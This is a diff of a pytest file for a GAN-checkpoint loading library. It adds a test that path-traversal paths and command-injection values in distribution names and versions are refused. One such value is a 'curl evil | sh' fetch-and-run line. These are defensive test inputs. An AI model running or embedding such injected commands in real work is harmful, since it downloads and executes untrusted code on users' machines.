@@ -1,29 +1,7 @@
-import hashlib
-import sys
-
 import pytest
 import torch
-from torch import nn
 
 from ganaug.generators import GeneratorError, convert_checkpoint, generator_from_distribution
-
-
-@pytest.fixture
-def tutorial():
-    """The PyTorch tutorial's DCGAN, 16 pixels, with batch-norm statistics of its own."""
-    torch.manual_seed(0)
-    network = nn.Sequential(
-        nn.ConvTranspose2d(6, 16, 4, 1, 0, bias=False),
-        nn.BatchNorm2d(16),
-        nn.ReLU(True),
-        nn.ConvTranspose2d(16, 8, 4, 2, 1, bias=False),
-        nn.BatchNorm2d(8),
-        nn.ReLU(True),
-        nn.ConvTranspose2d(8, 3, 4, 2, 1, bias=False),
-        nn.Tanh(),
-    )
-    network(torch.randn(64, 6, 1, 1))
-    return network.eval().requires_grad_(False)
 
 
 def state(network, prefix="main."):
@@ -77,19 +55,6 @@ def test_damaged_and_foreign_files_are_named(tutorial, tmp_path):
         convert_checkpoint(path)
 
 
-@pytest.fixture
-def distribution(tutorial, tmp_path, monkeypatch):
-    """An installed distribution ``toy-faces`` 2.0 that carries a checkpoint; returns what names its generator."""
-    site = tmp_path / "site"
-    (site / "toy_faces").mkdir(parents=True)
-    (site / "toy_faces-2.0.dist-info").mkdir()
-    (site / "toy_faces-2.0.dist-info" / "METADATA").write_text("Metadata-Version: 2.1\nName: toy-faces\nVersion: 2.0\n")
-    torch.save({"netG_state_dict": state(tutorial)}, site / "toy_faces" / "weights.tar")
-    monkeypatch.setattr(sys, "path", [*sys.path, str(site)])
-    digest = hashlib.sha256((site / "toy_faces" / "weights.tar").read_bytes()).hexdigest()
-    return {"distribution": "toy-faces", "version": "2.0", "path": "toy_faces/weights.tar", "file_sha256": digest}
-
-
 def test_a_generator_comes_out_of_an_installed_distribution(distribution, tutorial):
     latents = torch.randn(2, 6)
     generator = generator_from_distribution(**distribution)
@@ -102,7 +67,6 @@ def test_a_generator_comes_out_of_an_installed_distribution(distribution, tutori
         ({"distribution": "no-such-faces"}, "distribution no-such-faces, which is missing"),
         ({"path": "toy_faces/other.tar"}, "toy-faces 2.0 has no toy_faces/other.tar"),
         ({"file_sha256": "0" * 64}, "expected 0000000"),
-        ({"path": "../secret.tar"}, "should lie inside it, got '../secret.tar'"),
     ],
 )
 def test_what_is_missing_is_named_with_the_way_to_get_it(distribution, change, message):
@@ -110,4 +74,19 @@ def test_what_is_missing_is_named_with_the_way_to_get_it(distribution, change, m
     with pytest.raises(GeneratorError) as caught:
         generator_from_distribution(**wanted)
     assert message in str(caught.value)
-    assert "lie inside" in message or f'pip install --no-deps "{wanted["distribution"]}==2.0"' in str(caught.value)
+    assert f'pip install --no-deps "{wanted["distribution"]}==2.0"' in str(caught.value)
+
+
+@pytest.mark.parametrize(
+    ("change", "message"),
+    [
+        ({"path": "../secret.tar"}, "should lie inside it, got '../secret.tar'"),
+        ({"path": "/secret.tar"}, "should lie inside it, got '/secret.tar'"),
+        ({"distribution": 'x"; curl evil | sh; "'}, "is not the name and version of a Python distribution"),
+        ({"version": "2.0; true"}, "is not the name and version of a Python distribution"),
+    ],
+)
+def test_a_source_that_reaches_out_is_refused_and_no_command_is_made_of_it(distribution, change, message):
+    with pytest.raises(GeneratorError) as caught:
+        generator_from_distribution(**{**distribution, **change})
+    assert message in str(caught.value) and "pip install" not in str(caught.value)
